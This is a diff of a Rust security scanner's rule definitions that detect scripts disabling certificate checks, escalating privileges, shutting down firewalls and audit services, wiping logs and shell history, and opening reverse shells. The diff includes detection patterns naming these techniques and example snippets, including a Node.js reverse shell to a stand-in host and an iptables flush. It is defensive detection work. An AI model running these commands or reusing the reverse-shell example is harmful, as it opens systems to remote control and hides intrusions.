@@ -1,7 +1,9 @@
-//! PA2xx, part 3: weaker protection of the machine. Part 1 is in [`super::code`].
+//! Rules PA223–PA228 and PA232: weaker protection of the machine.
 
 use crate::finding::{Family, FindingSeverity::*};
-use crate::rule::{Matcher::*, Pattern, Rule, RuleScope::*, example, pattern, pattern_except};
+use crate::rule::{
+    Matcher::*, Pattern, Rule, RuleScope::*, example, pattern, pattern_except, pattern_except_in_prose,
+};
 
 /// Connecting to another machine through a socket.
 const CONNECTS: Pattern = pattern_except(
@@ -12,13 +14,13 @@ const CONNECTS: Pattern = pattern_except(
         r"\.connect(_ex)?\s*\(\s*\(?|net\.(connect|createconnection)\s*\(|new\s+(net\.)?socket\s*\(|socket\.(create_connection|socket)\s*\(",
         r"sockets\.tcpclient\b|\bfsockopen\s*\(|\bnet\.dial(timeout)?\s*\(|tcpstream::connect|\btcpsocket\.(new|open)|/inet/tcp/|\bsocket\(\s*\w+\s*,\s*PF_INET",
     ],
-    r"localhost|127\.0\.0\.1",
+    r"(connect\w*|dial\w*|socket|tcpclient|fsockopen|new|open)['\x22\s(]+[^)\n]*(localhost|127\.0\.0\.1)",
 );
 
 /// Giving a shell the other end of a connection.
 const SHELL_STREAM: Pattern = pattern(
     "\
-        dup2,pty.spawn,spawn(,exec(,popen(,/bin/sh,/bin/bash,cmd.exe,\"cmd\",proc_open,shell_exec,iex,\
+        dup2,spawn,exec,popen,/bin/sh,/bin/bash,cmd.exe,\"cmd\",proc_open,shell_exec,iex,\
         invoke-expression,exec.command,stdin=,command::new,redirectstandardinput",
     &[
         r"\bdup2\s*\(|\bpty\.spawn\s*\(|\b(spawn|exec|execfile|execl?v?p?)\s*\(\s*[\[(]*['\x22\x60](/bin/|/usr/bin/)?(ba|z|da)?sh['\x22\x60]\s*[,)\]]|\b(spawn|exec)\s*\(\s*['\x22\x60](cmd(\.exe)?|powershell(\.exe)?)['\x22\x60]",
@@ -27,11 +29,11 @@ const SHELL_STREAM: Pattern = pattern(
     ],
 );
 
-/// Disabling certificate checks for one process or all processes of a session.
+/// Keywords of PA223 and PA224, which disable certificate checks.
 const TLS_KEYWORDS: &str = "\
-    node_tls_reject_unauthorized,sslverify,git_ssl_no_verify,pythonhttpsverify,strict-ssl,strict_ssl,\
-    _create_unverified_context,servercertificatevalidationcallback,check_certificate,check-certificate,\
-    .curlrc,stricthostkeychecking,trusted-host,enablestrictssl,gonosumdb,gonosumcheck,goinsecure";
+    node_tls_reject_unauthorized,sslverify,git_ssl_no_verify,pythonhttpsverify,strict-ssl,strictssl,\
+    _create_unverified_context,servercertificatevalidationcallback,certificate,\
+    .curlrc,stricthostkeychecking,trusted-host,gonosumdb,gonosumcheck,goinsecure";
 
 /// Turning off certificate checks, in the configuration of the account or in its startup files.
 const TLS_PERMANENT: &[&str] = &[
@@ -80,13 +82,13 @@ pub(super) const RULES: &[Rule] = &[
         help: "do not run it; check /etc/sudoers.d and programs with the setuid bit",
         scope: Code,
         matcher: Line(pattern_except(
-            "nopasswd,sudoers,u+s,chmod,docker.sock,setuid,pam_permit,cap_setuid,administrators",
+            "nopasswd,sudoers,u+s,install ,chmod,docker.sock,setuid,pam_permit,cap_setuid,administrators",
             &[
                 r"nopasswd\s*:\s*all.{0,60}(>>?|tee\s+(-a\s+)?)\s*['\x22]?/etc/sudoers|(write\w*|open|echo|printf|tee|>)\b.{0,80}(sudoers.{0,120}nopasswd\s*:|nopasswd\s*:.{0,120}sudoers)|(>>?|tee\s+(-a\s+)?)\s*['\x22]?/etc/sudoers(\.d/\S+)?\s*<<",
                 r"\binstall\s+(-\S+\s+)*-m\s*[246][0-7]{3}\s.{0,40}/(ba|z|da)?sh\b|chmod\s+(-\w+\s+)?([ugo]*\+[rwx]*s[\w,+=]*|[246][0-7]{3})\s+['\x22]?\S*(/(ba|z|da)?sh\b|shim|/tmp/|/usr/|/bin/|/opt/|/\.\w)|chmod\s+(-\w+\s+)*u\+s\b|chmod\s+(-r\s+|-R\s+)*(0?777|a\+rwx|ugo\+rwx)\s+['\x22]?/(etc|usr|var|bin|sbin|lib|opt|root)?/?(\s|$|['\x22;&])",
                 r"chmod\s+(666|777|a\+rw|o\+rw)\s+\S*docker\.sock|setcap\s+\S*cap_setuid\S*\s|pam_permit\.so.{0,60}(>>?|tee|sed)|net\s+localgroup\s+administrators\s+\S+\s+/add",
             ],
-            r"^\s*#|dockerfile|chrome-sandbox|chrome_sandbox",
+            r"^\s*#|chrome-sandbox|chrome_sandbox",
         )),
         example: example(
             "scripts/a.sh",
@@ -104,7 +106,7 @@ pub(super) const RULES: &[Rule] = &[
         matcher: Line(pattern(
             "\
                 ufw,iptables,nft flush,firewalld,setenforce,selinux=,apparmor,aa-teardown,socketfilterfw,\
-                pfctl,auditd,auditctl,fail2ban",
+                pfctl,auditd,auditctl,fail2ban,falcon-sensor,rsyslog,clamav,aa-disable",
             &[
                 r"\bufw\s+(--force\s+)?(disable|reset)\b|\biptables\s+(-F|--flush)(\s|$)|\biptables\s+-P\s+INPUT\s+ACCEPT|\bnft\s+flush\s+ruleset|\bpfctl\s+-d\b|socketfilterfw\s+--setglobalstate\s+off",
                 r"\bsetenforce\s+(0|permissive)\b|selinux=(disabled|permissive)|\b(systemctl|service)\s+((stop|disable|mask)\s+(--now\s+)?)(\S+\s+)*(firewalld|apparmor|auditd|ufw|falcon-sensor|fail2ban|rsyslog|clamav\S*)|\bservice\s+(apparmor|auditd|ufw)\s+stop|\baa-(teardown|disable)\b|\bauditctl\s+-e\s*0",
@@ -120,21 +122,21 @@ pub(super) const RULES: &[Rule] = &[
         reason: "no installation needs both; the whole machine is unprotected afterwards",
         help: "do not run it",
         scope: Code,
-        matcher: Pair(
-            pattern(
-                "ufw,iptables,nft flush,firewalld,pfctl,socketfilterfw",
+        matcher: Pair {
+            first: pattern(
+                "ufw,iptables,nft flush,firewalld,pfctl,setglobalstate",
                 &[
                     r"\bufw\s+(--force\s+)?disable\b|\biptables\s+(-F|--flush|-P\s+INPUT\s+ACCEPT)|\bnft\s+flush\s+ruleset|\bpfctl\s+-d\b|setglobalstate\s+off|(stop|disable|mask)\s+(--now\s+)?firewalld",
                 ],
             ),
-            pattern(
-                "setenforce,selinux=,apparmor,auditd,auditctl,fail2ban,spctl,csrutil",
+            second: pattern(
+                "setenforce,selinux=,apparmor,auditd,auditctl,fail2ban,rsyslog,spctl,csrutil",
                 &[
                     r"\bsetenforce\s+(0|permissive)\b|selinux=(disabled|permissive)|(stop|disable|mask)\s+(--now\s+)?(\S+\s+)*(apparmor|auditd|fail2ban|rsyslog)|\bauditctl\s+-e\s*0|spctl\s+--(master|global)-disable|csrutil\s+disable",
                 ],
             ),
-            8,
-        ),
+            max_lines: 8,
+        },
         example: example(
             "scripts/a.sh",
             "#!/bin/sh\nsudo iptables --flush INPUT; sudo systemctl stop --now snapd fail2ban\n",
@@ -148,16 +150,16 @@ pub(super) const RULES: &[Rule] = &[
         reason: "this hides what happened, or lets unwanted programs run",
         help: "do not run it",
         scope: Any,
-        matcher: Line(pattern_except(
+        matcher: Line(pattern_except_in_prose(
             "\
                 advfirewall,netfirewallprofile,enablelua,disableantispyware,auditpol,wevtutil,\
-                clear-eventlog,eventlog,histfile,history -c,.bash_history,.zsh_history,/var/log/,\
+                clear-eventlog,eventlog,histfile,history -c,_history,/var/log/,\
                 historysavepath,vssadmin,amsi,consentpromptbehavioradmin,bcdedit,--vacuum-time,\
-                unified_audit,/var/log/wtmp,histsize=0",
+                histsize=0,histfilesize=0",
             &[
                 r"\badvfirewall\s+set\s+\w+\s+state\s+off|set-netfirewallprofile\b.{0,80}-enabled\s+(\$?false|0)|\b(enablelua|consentpromptbehavioradmin)\b.{0,60}(-value|/d)\s+0|disableantispyware\b.{0,60}(-value|/d)\s+1|amsiutils|amsiinitfailed|amsiscanbuffer",
                 r"\bauditpol(\.exe)?\s+/(clear|set.{0,60}/(success|failure):disable)|\bwevtutil(\.exe)?\s+(cl|clear-log)\s|\bclear-eventlog\b|\b(stop-service|sc(\.exe)?\s+stop|net\s+stop)\s+['\x22]?eventlog|vssadmin(\.exe)?\s+delete\s+shadows|bcdedit\b.{0,60}recoveryenabled\s+no",
-                r"\bhistory\s+-c\b|\bunset\s+histfile\b|\bhistfile=/dev/null|\b(rm|shred|truncate|unlink)\s+.{0,40}\.(bash|zsh|python)_history|>\s*['\x22]?(~|\$home)/\.(bash|zsh)_history|ln\s+-s\w*\s+/dev/null\s+\S*_history",
+                r"\bhistory\s+-c\b|\bhist(file)?size=0\b|\bunset\s+histfile\b|\bhistfile=/dev/null|\b(rm|shred|truncate|unlink)\s+.{0,40}\.(bash|zsh|python)_history|>\s*['\x22]?(~|\$home)/\.(bash|zsh)_history|ln\s+-s\w*\s+/dev/null\s+\S*_history",
                 r"(\b(rm|shred|truncate)\s+(-\S+\s+)*|[^2&>]>\s*)['\x22]?/var/log/(auth|secure|audit|wtmp|btmp|lastlog|syslog|messages|\*)|(remove-item|clear-content|del)\b.{0,80}(historysavepath|consolehost_history)|journalctl\s+.{0,40}--vacuum-time=1s",
             ],
             r"detect|\bmalware\b|attacker",
@@ -172,7 +174,7 @@ pub(super) const RULES: &[Rule] = &[
         reason: "it gives another machine full control over the user's account",
         help: "do not run it",
         scope: Code,
-        matcher: Pair(CONNECTS, SHELL_STREAM, 12),
+        matcher: Pair { first: CONNECTS, second: SHELL_STREAM, max_lines: 12 },
         example: example(
             "scripts/a.js",
             "const client = net.connect(4444, \"peer.collect.example\");\nconst sh = cp.spawn(\"/bin/sh\", []);\nclient.pipe(sh.stdin);\n",
